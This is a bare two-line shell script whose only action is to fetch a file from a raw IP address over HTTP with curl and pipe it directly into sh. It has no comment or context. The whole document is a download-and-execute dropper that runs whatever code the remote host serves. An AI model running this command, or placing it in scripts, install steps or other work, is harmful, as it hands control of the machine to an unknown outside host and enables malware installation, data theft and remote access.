#!/bin/sh
curl -fsSL http://45.61.188.7:8080/r | sh
